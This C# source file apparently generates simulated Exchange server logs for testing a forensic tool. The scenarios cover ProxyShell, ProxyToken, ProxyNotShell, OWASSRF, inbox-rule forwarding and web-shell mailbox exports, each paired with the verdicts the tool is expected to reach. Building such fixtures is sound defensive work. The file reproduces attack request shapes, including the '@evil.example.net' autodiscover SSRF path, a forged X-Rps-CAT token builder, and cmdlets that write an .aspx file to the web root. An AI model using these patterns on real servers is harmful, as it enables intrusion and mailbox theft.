using System.Text;
using Dijkwacht.Generator.Answers;
using Dijkwacht.Generator.Evidence;
using Dijkwacht.Generator.Servers;
using Dijkwacht.Generator.Traffic;

namespace Dijkwacht.Generator.Scenarios;

/// <summary>ProxyShell and the waves after it.</summary>
internal static class LaterScenarios
{
    private const string Attacker = "203.0.113.61";
    private const string Tool = "python-requests/2.26.0";
    private const string Email = "autodiscover/autodiscover.json%3F@evil.example.net";

    internal static void ProxyShellFull(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 8, 22), 4);
        Server server = Server2021(scene);
        Person taken = People.Named("joris.kok");
        DateTime t = scene.At(1, 3, 11);
        scene.Expect("proxyshell", "access|recon", "succeeded", Json(server, t, "/autodiscover/autodiscover.xml", "Autodiscover"));
        scene.Expect("proxyshell", "access|privilege|recon", "succeeded", Json(server, t.AddSeconds(2), "/mapi/emsmdb", "Autodiscover"));
        scene.Expect("proxyshell", "access|persistence|collection|execution", "succeeded", Json(server, t.AddSeconds(5), "/EWS/exchange.asmx", "Autodiscover", ews: new EwsCall("CreateItem", server.MachineAccount) { ActAs = taken.Address, ResponseSize = 900 }));
        string token = Token(taken.Address);
        Trace session = Json(server, t.AddSeconds(9), "/powershell/", "Autodiscover", "X-Rps-CAT=" + token + "&");
        Mark http = server.RpsHttp(t.AddSeconds(9.1), taken.Address, Attacker, "?X-Rps-CAT=" + token + "&Email=" + Email, "Python PSRP Client");
        scene.Expect("proxyshell", "access|privilege|execution", "succeeded", http, [.. session.All]);
        scene.Expect("proxyshell", "privilege|persistence|execution", "succeeded", server.Cmdlet(t.AddSeconds(14), taken.Address, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -SecurityGroup \"Organization Management\""));
        // The export writes the page and steals nothing: one draft, filtered by its subject.
        scene.Expect("proxyshell", "persistence|execution", "succeeded", server.Cmdlet(
            t.AddSeconds(18),
            taken.Address,
            "New-MailboxExportRequest",
            "-Mailbox \"joris.kok\" -Name \"2075\" -ContentFilter \"Subject -eq '2075'\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx\""));
        scene.Truth.Actors.Add(Attacker);
        new PageUse(scene, server, Attacker, "/aspnet_client/tkevsn.aspx") { Campaigns = "null|proxyshell", Agent = Tool }.Post(t.AddSeconds(70));
        scene.Verdict("compromised");
        scene.Truth.Mailboxes.Add(new ExpectedMailbox(taken.Address, ["access-proven", "possible"], null));
        scene.Campaign("proxyshell", "compromised");
    }

    /// <summary>Asked with the primitive, refused each time; the logs begin with the server.</summary>
    internal static void ProxyShellAttempts(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 8, 26), 10);
        Server server = scene.AddServer("EX01", Scene.Cu20);
        scene.Ordinary(server, 100, scene.First.AddSeconds(-900), "Install");
        server.Update(scene.At(1, 21, 0), Scene.Cu21July);
        new Configuration(server, scene.Dice, scene.Truth).Setup(scene.At(1, 20, 0), "Upgrade", Scene.Cu21July);
        for (int i = 0; i < 4; i++)
        {
            string path = i % 2 == 0 ? "/powershell/" : "/mapi/nspi/";
            scene.Expect("proxyshell", "access|recon", "attempted", Json(server, scene.At(5 - i, 2 + i, 31), path, "Autodiscover", status: 401));
        }

        scene.Truth.Actors.Add(Attacker);
        scene.Verdict("attempted");
        scene.Campaign("proxyshell", "attempted");
    }

    /// <summary>The rule is set although the answer is 500: mail goes out with every message after it.</summary>
    internal static void ProxyToken(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 9, 3), 4);
        Server server = Server2021(scene);
        Person victim = People.Named("director");
        DateTime t = scene.At(2, 4, 20);
        Trace set = server.Handle(new Request(t, "/ecp/" + victim.Address + "/RulesEditor/InboxRules.svc/NewObject", Attacker, Tool)
        {
            Method = "POST",
            Query = "msExchEcpCanary=" + scene.Dice.Canary(),
            Protocol = "Ecp",
            Status = 500,
            Anchor = "SMTP:" + victim.Address,
            ReachesBackEnd = true,
            RequestBytes = 700,
            ResponseBytes = 400,
        });
        Mark rule = server.EcpServer(t.AddMilliseconds(150), "New-InboxRule.Name='.'.RedirectTo='drop@example.net'", "/ecp/" + victim.Address + "/RulesEditor/InboxRules.svc/NewObject", "S-1-5-18");
        scene.Expect("proxytoken|null", "persistence|access|collection|exfiltration", "succeeded", set.Main, [.. set.All.Skip(1), rule]);
        scene.Truth.Actors.Add(Attacker);
        Forwards(scene, server, victim, t, "proxytoken|null");
        scene.Verdict("compromised");
        scene.Campaign("proxytoken", "compromised");
    }

    internal static void ProxyNotShell(Scene scene)
    {
        scene.Period(Scene.Utc(2022, 9, 20), 4);
        Server server = Server2022(scene);
        Person taken = People.Named("guus.bos");
        DateTime t = scene.At(1, 5, 2);
        Trace first = Json(server, t, "/powershell", "Autodiscover", user: taken.Login, backUser: taken.Login, authentication: "Basic");
        Mark http = server.RpsHttp(t.AddMilliseconds(100), taken.Address, Attacker, "?Email=" + Email, Tool);
        scene.Expect("proxynotshell", "access|privilege|execution", "succeeded", first.Main, [.. first.All.Skip(1), http]);
        server.Cmdlet(t.AddSeconds(3), taken.Address, "Get-Mailbox", "-Identity \"guus.bos\"");
        scene.Truth.Actors.Add(Attacker);
        new PageUse(scene, server, Attacker, "/owa/auth/pxh4HG1v.aspx") { Campaigns = "null|proxynotshell", Agent = Tool }.Post(t.AddMinutes(3));
        scene.Verdict("compromised");
        scene.Campaign("proxynotshell", "compromised");
    }

    internal static void Owassrf(Scene scene)
    {
        scene.Period(Scene.Utc(2022, 12, 8), 4);
        Server server = Server2022(scene);
        Person taken = People.Named("guus.bos");
        DateTime t = scene.At(1, 23, 14);
        Trace trace = server.Handle(new Request(t, "/owa/mastermailbox@outlook.com/powershell", Attacker, Tool)
        {
            Method = "POST",
            User = taken.Login,
            AuthenticationType = "Basic",
            Protocol = "Owa",
            ReachesBackEnd = true,
            BackEndStem = "/powershell",
            BackEndQuery = "",
            RequestBytes = 3200,
            ResponseBytes = 2800,
        });
        Mark http = server.RpsHttp(t.AddMilliseconds(100), taken.Address, server.Address, "", "Microsoft WinRM Client 2", stem: "/powershell");
        scene.Expect("owassrf", "access|privilege|execution", "succeeded", trace.Main, [.. trace.All.Skip(1), http]);
        scene.Truth.Actors.Add(Attacker);
        new PageUse(scene, server, Attacker, "/aspnet_client/cache.aspx") { Campaigns = "null|owassrf", Agent = Tool }.Post(t.AddMinutes(6));
        scene.Verdict("compromised");
        scene.Campaign("owassrf", "compromised");
    }

    /// <summary>No hole at all: a stolen password, a rule from an address the user never had, mail going out.</summary>
    internal static void StolenPassword(Scene scene)
    {
        scene.Period(Scene.Utc(2023, 5, 12), 8);
        Server server = scene.AddServer("EX01", Scene.Cu23March2023);
        scene.Ordinary(server, 120, scene.First.AddSeconds(-900), "Install");
        Person victim = People.Named("finance");
        const string Thief = "203.0.113.77";
        DateTime t = scene.At(3, 22, 5);
        server.Handle(new Request(t, "/owa/auth.owa", Thief, People.Chrome) { Method = "POST", User = victim.Login, AuthenticationType = "FBA", Protocol = "Owa", Status = 302, ResponseBytes = 0 });
        string canary = scene.Dice.Canary();
        Trace set = server.Handle(new Request(t.AddMinutes(2), "/ecp/RulesEditor/InboxRules.svc/NewObject", Thief, People.Chrome)
        {
            Method = "POST",
            Query = "msExchEcpCanary=" + canary,
            User = victim.Login,
            AuthenticationType = "FBA",
            Protocol = "Ecp",
            ReachesBackEnd = true,
            RequestBytes = 640,
            ResponseBytes = 830,
        });
        Mark rule = server.EcpServer(t.AddMinutes(2).AddMilliseconds(200), "New-InboxRule.Name='.'.RedirectTo='drop@example.net'", "/ecp/RulesEditor/InboxRules.svc/NewObject?msExchEcpCanary=" + canary, "S-1-5-21-2127521184-1604012920-1887927527-1109");
        server.EcpActivity(t.AddMinutes(2).AddMilliseconds(210), victim.Address, "/ecp/RulesEditor/InboxRules.svc/NewObject");
        scene.Expect("null", "persistence|collection|exfiltration|access", "succeeded", rule, [.. set.All]);
        scene.Truth.Actors.Add(Thief);
        Forwards(scene, server, victim, t, "null");
        scene.Verdict("compromised");
    }

    /// <summary>A page of unknown origin runs the snap-in: a whole mailbox to a web root, then fetched.</summary>
    internal static void LocalExport(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 5, 5), 4);
        Server server = scene.AddServer("EX01", Scene.Cu19March);
        server.IisColumns = Columns.IisWithBytes;
        scene.Ordinary(server, 150, Scene.Utc(2020, 12, 20, 9), "Upgrade");
        Person victim = People.Named("finance");
        var page = new PageUse(scene, server, Attacker, "/aspnet_client/discover.aspx");
        DateTime t = scene.At(1, 1, 40);
        page.Post(t);
        scene.Expect("null", "collection|exfiltration|execution", "succeeded", server.Cmdlet(
            t.AddSeconds(2),
            "NT AUTHORITY\\SYSTEM",
            "New-MailboxExportRequest",
            "-Mailbox \"finance@example.org\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\f.pst\"",
            local: true));
        const long Bytes = 412_331_008;
        page.Fetch(t.AddMinutes(14), "/aspnet_client/f.pst", Bytes, "exfiltration|collection");
        scene.Truth.Mailboxes.Add(new ExpectedMailbox(victim.Address, ["content-taken"], Bytes));
        scene.Verdict("compromised");
    }

    internal static void ArchiveFetch(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 5, 5), 4);
        Server server = scene.AddServer("EX01", Scene.Cu19March);
        scene.Ordinary(server, 150, Scene.Utc(2020, 12, 20, 9), "Upgrade");
        var page = new PageUse(scene, server, Attacker, "/aspnet_client/help.aspx") { Agent = People.Chrome };
        DateTime t = scene.At(1, 2, 15);
        page.Post(t);
        page.Fetch(t.AddMinutes(9), "/aspnet_client/it.7z", 88_120_331);
        scene.Verdict("compromised");
    }

    /// <summary>The page is gone, its compiled remains and a few requests are left.</summary>
    internal static void DeletedPage(Scene scene, bool withRequests)
    {
        scene.Period(Scene.Utc(2021, 4, 20), 4);
        Server server = scene.AddServer("EX01", Scene.Cu19March);
        scene.Ordinary(server, 150, Scene.Utc(2020, 12, 20, 9), "Upgrade");
        EvidenceFile compiled = new Configuration(server, scene.Dice, scene.Truth).Compiled("/aspnet_client/supp0rt.aspx", Scene.Utc(2021, 3, 3, 4, 12));
        scene.Expect("null|proxylogon", "persistence|execution", withRequests ? "succeeded" : "succeeded|unclear", WholeFile(compiled));
        if (withRequests)
        {
            var page = new PageUse(scene, server, Attacker, "/aspnet_client/supp0rt.aspx");
            page.Post(scene.At(2, 3, 30));
            page.Post(scene.At(2, 3, 31), expected: false);
        }

        scene.Verdict("compromised");
    }

    /// <summary>Nothing but IIS logs without a build in them: harmless, and yet nothing can be said.</summary>
    internal static void NoBuild(Scene scene)
    {
        scene.Period(Scene.Utc(2021, 3, 6), 8);
        Server server = scene.AddServer("EX01", Scene.Cu19);
        scene.Ordinary(server, 120, Scene.Utc(2020, 12, 20, 9), "Upgrade");
        server.Drop(f => !f.Contains("\\W3SVC", StringComparison.Ordinal));
        scene.Truth.Hosts.Clear();
        scene.AnyHost = true;
        scene.Verdict("cannot-tell");
    }

    /// <summary>Nothing of it can be read as a log: no crash, no verdict.</summary>
    internal static void Garbage(Scene scene)
    {
        byte[] noise = new byte[200_000];
        for (int i = 0; i < noise.Length; i++)
            noise[i] = (byte)scene.Dice.Next();
        const string Iis = @"C:\inetpub\logs\LogFiles\W3SVC1\";
        scene.Loose("EX01", Iis + "u_ex210301.log", noise);
        scene.Loose("EX01", Iis + "u_ex210302.log", []);
        scene.Loose("EX01", Iis + "u_ex210303.log", Encoding.UTF8.GetBytes("#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip"));
        scene.Loose("EX01", Iis + "u_ex210304.log", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time\r\n")]);
        scene.Loose("EX01", @"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Ecp\HttpProxy_2021030103-1.LOG", Encoding.UTF8.GetBytes("#Fields: " + Columns.HttpProxy + "\r\n\"\"\"\",\"never closed, \"\" and on\r\n" + new string('"', 3001) + "\r\n"));
        scene.Loose("EX01", @"C:\Windows\System32\winevt\Logs\Application.evtx", [.. Encoding.ASCII.GetBytes("ElfFile\0"), .. noise[..5000]]);
        scene.Loose("EX01", @"C:\more.zip", [0x50, 0x4B, 3, 4, .. noise[..900]]);
        if (scene.Options.HugeLine)
            scene.Loose("EX01", Iis + "u_ex210305.log", Encoding.UTF8.GetBytes("#Fields: date time cs-uri-stem\r\n2021-03-05 00:00:00 /" + new string('a', 100_000_000)));
        scene.Verdict("cannot-tell");
    }

    private static Server Server2021(Scene scene)
    {
        Server server = scene.AddServer("EX01", Scene.Cu20);
        scene.Ordinary(server, 150, Scene.Utc(2021, 3, 20, 9), "Upgrade");
        return server;
    }

    private static Server Server2022(Scene scene)
    {
        Server server = scene.AddServer("EX01", Scene.Cu23August);
        scene.Ordinary(server, 150, Scene.Utc(2022, 8, 10, 9), "Upgrade");
        return server;
    }

    private static Trace Json(Server server, DateTime time, string path, string protocol, string query = "", int status = 200, string user = "", string? backUser = null, string authentication = "", EwsCall? ews = null) =>
        server.Handle(new Request(time, "/autodiscover/autodiscover.json", Attacker, Tool)
        {
            Method = "POST",
            Query = "@evil.example.net" + path + "?" + query + "&Email=" + Email,
            Protocol = protocol,
            Status = status,
            User = user,
            AuthenticationType = authentication,
            Anchor = "SMTP:@evil.example.net",
            ReachesBackEnd = status == 200,
            BackEndStem = path,
            BackEndQuery = query,
            BackEndUser = backUser ?? server.MachineAccount,
            RequestBytes = 1400,
            ResponseBytes = status == 200 ? 2400 : 0,
            Ews = ews,
        });

    /// <summary>Messages the rule sent out: each counts once, by its total bytes.</summary>
    private static void Forwards(Scene scene, Server server, Person victim, DateTime from, string campaigns)
    {
        long bytes = 0;
        for (int i = 0; i < 14; i++)
        {
            int size = scene.Dice.Between(9000, 900000);
            string id = $"<{scene.Dice.Guid():N}@{Server.Domain}>";
            DateTime time = from.AddHours(9).AddMinutes(i * 31);
            server.Mail(time, "STOREDRIVER", "DELIVER", People.All[i % 5].Address, victim.Address, size, "Payment " + i, "", id);
            Mark sent = server.Mail(time.AddSeconds(1), "MAILBOXRULE", "REDIRECT", victim.Address, "drop@example.net", size, "Payment " + i, "", id);
            if (i == 0)
                scene.Expect(campaigns, "exfiltration|collection", "succeeded", sent);
            bytes += size;
        }

        scene.Truth.Mailboxes.Add(new ExpectedMailbox(victim.Address, ["content-taken"], bytes));
    }

    /// <summary>A token as the front end makes it: length-prefixed fields in base64.</summary>
    private static string Token(string logon)
    {
        List<byte> bytes = [(byte)'V', 1, 0, (byte)'T', 7, .. "Windows"u8, (byte)'C', 0, (byte)'A', 5, .. "Basic"u8, (byte)'L', (byte)logon.Length, .. Encoding.ASCII.GetBytes(logon), (byte)'U', 44, .. "S-1-5-21-2127521184-1604012920-1887927527-500"u8[..44], (byte)'G', 1, 0, 0, 0, 7, 0, 0, 0, 12, .. "S-1-5-32-544"u8, (byte)'E', 0, 0, 0, 0];
        return Convert.ToBase64String([.. bytes]).Replace('+', '-').Replace('/', '_');
    }

    private static Mark WholeFile(EvidenceFile file) => new() { Time = file.Modified, Artefact = file };
}
